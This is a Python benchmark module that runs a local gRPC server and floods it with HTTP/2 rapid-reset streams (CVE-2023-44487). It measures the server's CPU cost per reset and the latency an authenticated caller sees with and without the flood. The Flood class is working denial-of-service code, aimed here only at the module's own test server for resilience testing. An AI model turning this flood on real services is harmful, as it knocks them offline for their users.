"""Rapid resets (CVE-2023-44487) against a gRPC server as every service runs it: its CPU for each, and what others notice.

    python -m bench.resets

One connection opens calls and resets them at once, as fast as it can, without a token. Beside it a known caller asks for the
status, one call after another. Printed: resets a second, the server's CPU for each, the caller's latency with and without.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import socket
import statistics
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from trunkline import auth, rpc
from trunkline.secret import Secret
from trunkline.settings import Listen
from trunkline.v1 import router_pb2, router_pb2_grpc

TOKEN: Final = "a-service-token-of-this-bench"  # noqa: S105 - of this benchmark
METHOD: Final = "/trunkline.v1.RouterService/GetRouterStatus"
_Servicer: Any = router_pb2_grpc.RouterServiceServicer
_BATCH: Final = 50
"""Calls opened and reset in one write."""


class _Status(_Servicer):  # type: ignore[misc]  # abstract in its stub; here a part of it will do
    async def GetRouterStatus(self, _request: Any, _context: Any) -> Any:  # noqa: N802 - gRPC's name
        return router_pb2.GetRouterStatusResponse(router_id="r")


async def serve() -> None:
    """Serve, and print where."""
    table = auth.TokenTable.of(Secret("an-admin-token-of-this-bench"), Secret(TOKEN))
    server = rpc.Server(Listen("127.0.0.1", 0), table, {METHOD: auth.PICK})
    router_pb2_grpc.add_RouterServiceServicer_to_server(_Status(), server.grpc)
    await server.start()
    print(server.address, flush=True)
    await asyncio.Event().wait()


@contextlib.contextmanager
def served() -> Iterator[tuple[str, int]]:
    """A server in a process of its own: its address and its process number."""
    command = [sys.executable, "-m", "bench.resets", "--serve"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        try:
            assert process.stdout is not None
            yield process.stdout.readline().strip(), process.pid
        finally:
            process.kill()


class Flood:
    """Connections that open calls and reset them; a connection that the server ends is made anew."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._to = (host, int(port))
        self.resets = self.connections = 0

    def run(self, resets: int) -> None:
        """Send so many."""
        while self.resets < resets:
            self.connections += 1
            with socket.create_connection(self._to, timeout=5) as wire, contextlib.suppress(OSError):
                self._one(wire, resets)

    def _one(self, wire: socket.socket, resets: int) -> None:
        wire.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
        http.initiate_connection()
        while self.resets < resets:
            for _ in range(_BATCH):
                stream = http.get_next_available_stream_id()
                http.send_headers(stream, _HEADERS)
                http.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                self.resets += 1
            wire.sendall(http.data_to_send())
            wire.settimeout(0)
            try:
                with contextlib.suppress(BlockingIOError):
                    data = wire.recv(65_536)
                    if not data or _ended(http, data):
                        return
            finally:
                wire.settimeout(5)


def _ended(http: h2.connection.H2Connection, data: bytes) -> bool:
    try:
        events = http.receive_data(data)
    except h2.exceptions.ProtocolError:
        return True
    return any(isinstance(event, h2.events.ConnectionTerminated) for event in events)


_HEADERS: Final = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "x"),
    (":path", METHOD),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]


@dataclass
class Answers:
    """What a known caller got while something went on."""

    milliseconds: list[float] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)

    async def ask(self, address: str, going_on: Callable[[], bool]) -> None:
        """Ask one call after another, for as long as it goes on."""
        dialled = rpc.dial(address, Secret(TOKEN))
        stub: Any = router_pb2_grpc.RouterServiceStub(dialled.channel)
        while going_on():
            start = time.perf_counter()
            try:
                await stub.GetRouterStatus(router_pb2.GetRouterStatusRequest(), metadata=dialled.metadata, timeout=60)
            except grpc.aio.AioRpcError as error:
                self.failed.append(f"{error.code().name}: {error.details()}")
            self.milliseconds.append((time.perf_counter() - start) * 1000)
            await asyncio.sleep(0.002)
        await dialled.channel.close()


async def flooded(address: str, flood: Flood, resets: int) -> Answers:
    """What a known caller gets beside a flood."""
    answers = Answers()
    over = asyncio.Event()
    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(answers.ask(address, lambda: not over.is_set()))
        await asyncio.to_thread(flood.run, resets)
        over.set()
    return answers


async def quiet(address: str, calls: int) -> Answers:
    """What a known caller gets alone."""
    answers = Answers()
    await answers.ask(address, lambda: len(answers.milliseconds) < calls)
    return answers


def cpu_of(pid: int) -> float:
    """CPU seconds of a process so far."""
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / 100


def main() -> None:
    """Measure, and print a line each."""
    parser = argparse.ArgumentParser(prog="bench.resets")
    parser.add_argument("--serve", action="store_true")
    parser.add_argument("--resets", type=int, default=50_000)
    options = parser.parse_args()
    if options.serve:
        asyncio.run(serve())
        return
    with served() as (address, pid):
        alone = asyncio.run(quiet(address, 500))
        flood = Flood(address)
        before, start = cpu_of(pid), time.monotonic()
        beside = asyncio.run(flooded(address, flood, options.resets))
        spent, seconds = cpu_of(pid) - before, time.monotonic() - start
    each = spent / flood.resets * 1e6
    print(f"{flood.resets / seconds:,.0f} resets/s, {flood.connections} connections, {each:.0f} µs of CPU each")
    for name, answers in (("alone", alone), ("beside the flood", beside)):
        cuts = statistics.quantiles(answers.milliseconds, n=100)
        print(f"known caller {name}: {len(answers.milliseconds)} calls, p50 {cuts[49]:.1f} ms, p99 {cuts[98]:.1f} ms")
        print(f"    not answered: {len(answers.failed)} {', '.join(sorted(set(answers.failed)))}")


if __name__ == "__main__":
    main()
